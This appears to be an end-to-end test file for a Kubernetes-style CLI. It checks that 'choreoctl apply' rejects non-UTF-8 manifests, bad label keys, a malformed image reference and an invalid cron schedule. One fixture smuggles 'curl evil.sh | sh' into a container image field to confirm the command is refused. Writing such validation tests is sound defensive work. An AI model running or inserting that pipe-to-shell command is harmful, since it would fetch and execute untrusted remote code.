/**
 * `choreoctl apply` (the BUILT CLI, against the harness apiserver) on input issue 19 finding 8 names: bytes
 * that are not UTF-8, and field values Kubernetes would refuse later. Each is refused with file:line:col and
 * the field, exit 1, and the object is not created.
 */
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { REF } from '../../src/api/refs.js';
import { uniqueName } from '../integration/helpers.js';
import { e2eOrganizations } from './harness.js';

const org = uniqueName('e2e-input');
const h = e2eOrganizations({ prefix: 'e2e-input', organizations: [org] });
const { cli } = h;

async function file(name: string, content: string | Buffer): Promise<string> {
  const p = join(h.dir, name);
  await writeFile(p, content);
  return p;
}

async function exists(name: string): Promise<boolean> {
  return h.kube
    .get(REF.Project, name, { namespace: org })
    .then(() => true)
    .catch(() => false);
}

describe('apply refuses input Kubernetes would refuse later', () => {
  it('a manifest that is not UTF-8: file:line:col, nothing created', async () => {
    const f = await file(
      'latin1.yaml',
      Buffer.concat([
        Buffer.from('apiVersion: openchoreo.dev/v1alpha1\nkind: Project\nmetadata:\n  name: caf'),
        Buffer.from([0xe9]), // é in Latin-1
        Buffer.from('\nspec:\n  deploymentPipelineRef: default\n'),
      ]),
    );
    const r = await cli(['apply', '-f', f, '-n', org]);
    expect(r.stderr).toContain(`${f}:4:12: invalid UTF-8 (byte 0xe9)`);
    expect(r.exitCode).toBe(1);
    expect(await exists('caf')).toBe(false);
    expect(await exists('caf\ufffd')).toBe(false);
  });

  it('a label key that is not a qualified name: the line of the field', async () => {
    const f = await file(
      'label.yaml',
      'apiVersion: openchoreo.dev/v1alpha1\nkind: Project\nmetadata:\n  name: labelled\n  labels:\n    "bad key!": x\nspec:\n  deploymentPipelineRef: default\n',
    );
    const r = await cli(['apply', '-f', f, '-n', org]);
    expect(r.stderr).toMatch(
      /label\.yaml:6:\d+: Project\/labelled: metadata\.labels: Invalid value: "bad key!": name part must consist/,
    );
    expect(r.exitCode).toBe(1);
    expect(await exists('labelled')).toBe(false);
  });

  it('an image with shell text and a cron out of range: every error, each with its line', async () => {
    const f = await file(
      'fields.yaml',
      `apiVersion: openchoreo.dev/v1alpha1
kind: Workload
metadata:
  name: orders
spec:
  owner: {projectName: shop, componentName: orders}
  containers:
    main:
      image: "nginx; curl evil.sh | sh"
---
apiVersion: openchoreo.dev/v1alpha1
kind: ScheduledTaskClass
metadata:
  name: nightly
spec:
  cronJobTemplate:
    schedule: "0 24 * * *"
`,
    );
    const r = await cli(['apply', '-f', f, '-n', org]);
    expect(r.stderr).toMatch(
      /fields\.yaml:9:7: Workload\/orders: spec\.containers\.main\.image: .*should match an image reference/,
    );
    expect(r.stderr).toMatch(
      /fields\.yaml:17:5: ScheduledTaskClass\/nightly: spec\.cronJobTemplate\.schedule: .*should match a five-field cron/,
    );
    expect(r.exitCode).toBe(1);
  });
});
